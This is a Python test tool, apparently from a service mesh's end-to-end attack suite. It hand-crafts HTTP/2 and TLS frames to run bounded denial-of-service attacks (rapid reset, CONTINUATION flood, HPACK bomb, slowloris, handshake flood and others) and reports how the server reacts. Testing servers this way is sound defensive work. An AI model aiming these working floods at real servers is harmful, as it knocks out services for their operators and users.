#!/usr/bin/python3
"""HTTP/2 and TLS attacks on one server, bounded in frames AND seconds (not ambit code).

Run by tests/e2e/attack/attack_e2e_test.cc inside a pod's netns. Two kinds of target:
  --tls (with --ca/--cert/--key): an HBONE server (mTLS, ALPN h2); requests are CONNECT to
      --authority, as a compromised workload holding a valid mesh certificate would send;
  plain: h2c with prior knowledge (the waypoint's HTTP/2 side, reached through the mesh);
      requests are GET / with :authority --authority.
Frames are written by hand (RFC 9113 framing, hpack for header blocks) so that the tool sends
what a well-behaved library refuses to. Every attack stops after --count units or
--max-seconds, whichever comes first, then watches the connection for --wait seconds.
Prints one JSON object: what was sent, and how the server reacted (GOAWAY and its error code,
RST_STREAMs by code, connection closed) and when, in seconds since the attack began.
"""
import argparse
import json
import socket
import ssl
import struct
import time

import hpack

DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL, REFUSED_STREAM = 8, 7


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def settings(pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


class Peer:
    """One attacking connection: writes frames, parses what comes back."""

    def __init__(self, a, start, settings_pairs=()):
        self.a, self.start = a, start
        self.sent = 0
        self.buf = b""
        self.goaway = None  # error code
        self.goaway_after = None
        self.closed_after = None
        self.rst = {}
        self.rst_first_after = None  # seconds from the start to the first RST_STREAM received
        self.rst_last_after = None
        self.responses = 0
        self.write_blocked = False
        self.auto_ack = True  # answer the server's SETTINGS
        self.sock = connect(a)
        self.write(PREFACE + settings(list(settings_pairs)), frames=1)

    def now(self):
        return round(time.monotonic() - self.start, 3)

    def over(self):
        return self.closed_after is not None or self.goaway is not None

    def write(self, data, frames=1):
        if self.closed_after is not None:
            return False
        self.sock.settimeout(2.0)
        try:
            self.sock.sendall(data)
        except socket.timeout:
            self.write_blocked = True  # the server stopped reading us: that is a reaction too
            return False
        except OSError:
            self.closed_after = self.now()
            return False
        self.sent += frames
        return True

    def poll(self, timeout):
        """Reads what arrives within `timeout` seconds and notes the server's reactions."""
        if self.closed_after is not None:
            return
        self.sock.settimeout(max(timeout, 0.001))
        while True:
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                return
            except OSError:
                self.closed_after = self.now()
                return
            if not chunk:
                self.closed_after = self.now()
                return
            self.buf += chunk
            self.parse()
            self.sock.settimeout(0.001)

    def parse(self):
        while len(self.buf) >= 9:
            length = struct.unpack(">I", b"\0" + self.buf[:3])[0]
            if len(self.buf) < 9 + length:
                return
            ftype, flags = self.buf[3], self.buf[4]
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if ftype == GOAWAY and self.goaway is None:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
                self.goaway_after = self.now()
            elif ftype == RST:
                code = struct.unpack(">I", payload[:4])[0]
                self.rst[code] = self.rst.get(code, 0) + 1
                if self.rst_first_after is None:
                    self.rst_first_after = self.now()
                self.rst_last_after = self.now()
            elif ftype == HEADERS:
                self.responses += 1
            elif ftype == SETTINGS and not flags & 1 and self.auto_ack:
                self.write(frame(SETTINGS, 1, 0))

    def watch(self, seconds):
        """Waits up to `seconds` for the server to end the connection."""
        end = time.monotonic() + seconds
        while self.closed_after is None and time.monotonic() < end:
            self.poll(min(0.2, max(0.0, end - time.monotonic())))

    def summary(self):
        return {"sent": self.sent, "goaway": self.goaway, "goaway_after": self.goaway_after,
                "closed_after": self.closed_after, "rst": {str(k): v for k, v in self.rst.items()},
                "rst_first_after": self.rst_first_after, "rst_last_after": self.rst_last_after,
                "responses": self.responses, "write_blocked": self.write_blocked}


def tls_context(a):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_REQUIRED
    ctx.load_verify_locations(a.ca)
    ctx.load_cert_chain(a.cert, a.key)
    ctx.set_alpn_protocols(["h2"])
    return ctx


def tcp(a):
    host, port = a.target.rsplit(":", 1)
    return socket.create_connection((host.strip("[]"), int(port)), timeout=5)


def connect(a):
    raw = tcp(a)
    if not a.tls:
        return raw
    return tls_context(a).wrap_socket(raw, server_hostname=None)


def request_block(a, enc, extra=()):
    if a.tls:
        headers = [(":method", "CONNECT"), (":authority", a.authority)]
    else:
        headers = [(":method", "GET"), (":scheme", "http"), (":path", "/"),
                   (":authority", a.authority)]
    return enc.encode(headers + list(extra))


def bounded(a, start):
    return time.monotonic() - start < a.max_seconds


def rapid_reset(a, start):
    p, enc = Peer(a, start), hpack.Encoder()
    sid = 1
    while sid // 2 < a.count and bounded(a, start) and not p.over():
        batch = b""
        for _ in range(50):
            batch += frame(HEADERS, END_HEADERS, sid, request_block(a, enc))
            batch += frame(RST, 0, sid, struct.pack(">I", CANCEL))
            sid += 2
        p.write(batch, frames=100)
        p.poll(0)
    return p


def continuation_flood(a, start):
    p, enc = Peer(a, start), hpack.Encoder()
    p.write(frame(HEADERS, 0, 1, request_block(a, enc)))
    # Each CONTINUATION carries one literal header field, never indexed (RFC 7541 6.2.3).
    field = b"\x10\x03x-c\x04abcd"
    n = 0
    while n < a.count and bounded(a, start) and not p.over():
        p.write(frame(CONTINUATION, 0, 1, field) * 100, frames=100)
        n += 100
        p.poll(0)
    return p


def control_flood(a, start, make):
    """SETTINGS or PING frames, not reading the ACKs (they pile up on the server's side)."""
    p = Peer(a, start)
    n = 0
    while n < a.count and bounded(a, start) and not p.write_blocked and p.closed_after is None:
        p.write(make() * 100, frames=100)
        n += 100
    return p


def empty_data(a, start):
    p, enc = Peer(a, start), hpack.Encoder()
    p.write(frame(HEADERS, END_HEADERS, 1, request_block(a, enc)))
    n = 0
    while n < a.count and bounded(a, start) and not p.over():
        p.write(frame(DATA, 0, 1) * 500, frames=500)
        n += 500
        p.poll(0)
    return p


def literal(name, value, first=b"\x00"):
    """A header field as an hpack literal (no Huffman): without indexing, or with first=0x40
    with incremental indexing (RFC 7541 6.2.1)."""
    return (first + bytes(hpack_int(len(name), 7)) + name + bytes(hpack_int(len(value), 7)) +
            value)


def hpack_bomb(a, start):
    """One 4000-byte header in the dynamic table, then referenced 1 byte at a time: each
    HEADERS frame of 16 KiB decodes to ~48 MB of header fields unless the server caps them."""
    p = Peer(a, start)
    if a.tls:
        request = literal(b":method", b"CONNECT") + literal(b":authority", a.authority.encode())
    else:
        request = (literal(b":method", b"GET") + literal(b":scheme", b"http") +
                   literal(b":path", b"/") + literal(b":authority", a.authority.encode()))
    sid = 1
    while sid // 2 < a.count and bounded(a, start) and not p.over():
        block = request
        if sid == 1:
            block += literal(b"x-bomb", b"b" * 4000, first=b"\x40")
        block += bytes([0x80 | 62]) * (16000 - len(block))  # index 62: the first dynamic entry
        p.write(frame(HEADERS, END_HEADERS, sid, block))
        sid += 2
        p.poll(0.05)
    return p


def hpack_int(value, prefix_bits):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return [value]
    out, value = [limit], value - limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    return out + [value]


def zero_window(a, start):
    """Advertises a zero stream window and never opens it: the response cannot be sent."""
    p, enc = Peer(a, start, [(4, 0)]), hpack.Encoder()
    for i in range(min(a.count, 50)):
        sid = 1 + 2 * i
        if a.tls:
            p.write(frame(HEADERS, END_HEADERS, sid, request_block(a, enc)))
            p.write(frame(DATA, 0, sid, b"GET /?size=1000000 HTTP/1.1\r\nHost: x\r\n\r\n"))
        else:
            p.write(frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block(a, enc)))
    p.watch(a.wait)
    return p


def slowloris(a, start):
    """--count connections, each with a header block begun (no END_HEADERS) and then silent."""
    peers = []
    for _ in range(a.count):
        if not bounded(a, start):
            break
        p, enc = Peer(a, start), hpack.Encoder()
        # Acknowledge the server's SETTINGS first: nothing but CONTINUATION may follow HEADERS.
        p.poll(0.2)
        p.auto_ack = False
        p.write(frame(HEADERS, 0, 1, request_block(a, enc)))
        peers.append(p)
    end = time.monotonic() + a.wait
    while time.monotonic() < end and any(p.closed_after is None for p in peers):
        for p in peers:
            p.poll(0.01)
        time.sleep(0.1)
    closed = [p.closed_after for p in peers if p.closed_after is not None]
    first = peers[0] if peers else Peer(a, start)
    first.extra = {"connections": len(peers), "closed": len(closed),
                   "last_closed_after": max(closed) if closed else None}
    return first


def stream_limit(a, start):
    """Opens --count streams on one connection and never ends them."""
    p, enc = Peer(a, start), hpack.Encoder()
    for i in range(a.count):
        if not bounded(a, start) or p.over():
            break
        p.write(frame(HEADERS, END_HEADERS, 1 + 2 * i, request_block(a, enc)))
        if i % 50 == 49:
            p.poll(0.01)
    p.watch(min(a.wait, 2.0))
    return p


def handshakes(a, start):
    ctx = tls_context(a)
    ok = failed = 0
    while ok + failed < a.count and bounded(a, start):
        try:
            with ctx.wrap_socket(tcp(a), server_hostname=None):
                ok += 1
        except OSError:
            failed += 1
    elapsed = time.monotonic() - start
    return {"handshakes": ok, "failed": failed, "elapsed": round(elapsed, 3),
            "per_second": round(ok / elapsed, 1) if elapsed else 0}


def tls_stall(a, start, send_hello):
    """A TCP connection that sends a ClientHello (or nothing) and then waits to be closed."""
    sock = tcp(a)
    sent = 0
    if send_hello:
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        obj = tls_context(a).wrap_bio(incoming, outgoing, server_side=False)
        try:
            obj.do_handshake()
        except ssl.SSLWantReadError:
            pass
        hello = outgoing.read()
        sock.sendall(hello)
        sent = len(hello)
    sock.settimeout(0.2)
    closed = None
    while closed is None and time.monotonic() - start < a.wait:
        try:
            if not sock.recv(65536):
                closed = round(time.monotonic() - start, 3)
        except socket.timeout:
            continue
        except OSError:
            closed = round(time.monotonic() - start, 3)
    return {"bytes_sent": sent, "closed_after": closed}


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation": continuation_flood,
    "settings-flood": lambda a, s: control_flood(a, s, lambda: settings([(4, 65535)])),
    "ping-flood": lambda a, s: control_flood(a, s, lambda: frame(PING, 0, 0, b"\0" * 8)),
    "empty-data": empty_data,
    "hpack-bomb": hpack_bomb,
    "zero-window": zero_window,
    "slowloris": slowloris,
    "stream-limit": stream_limit,
    "handshakes": handshakes,
    "tls-hello-only": lambda a, s: tls_stall(a, s, True),
    "tls-silent": lambda a, s: tls_stall(a, s, False),
}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("attack", choices=sorted(ATTACKS))
    ap.add_argument("--target", required=True)  # ip:port
    ap.add_argument("--authority", default="")
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--ca")
    ap.add_argument("--cert")
    ap.add_argument("--key")
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--max-seconds", type=float, default=10.0)
    ap.add_argument("--wait", type=float, default=3.0, help="seconds to watch for the reaction")
    a = ap.parse_args()
    start = time.monotonic()
    try:
        r = ATTACKS[a.attack](a, start)
    except OSError as e:
        print(json.dumps({"attack": a.attack, "error": "connect: %s" % e}))
        return
    if isinstance(r, Peer):
        if r.closed_after is None and r.goaway is None and a.attack not in ("zero-window",
                                                                            "slowloris"):
            r.watch(a.wait)
        out = r.summary()
        out.update(getattr(r, "extra", {}))
    else:
        out = r
    out["attack"] = a.attack
    out["elapsed"] = round(time.monotonic() - start, 3)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
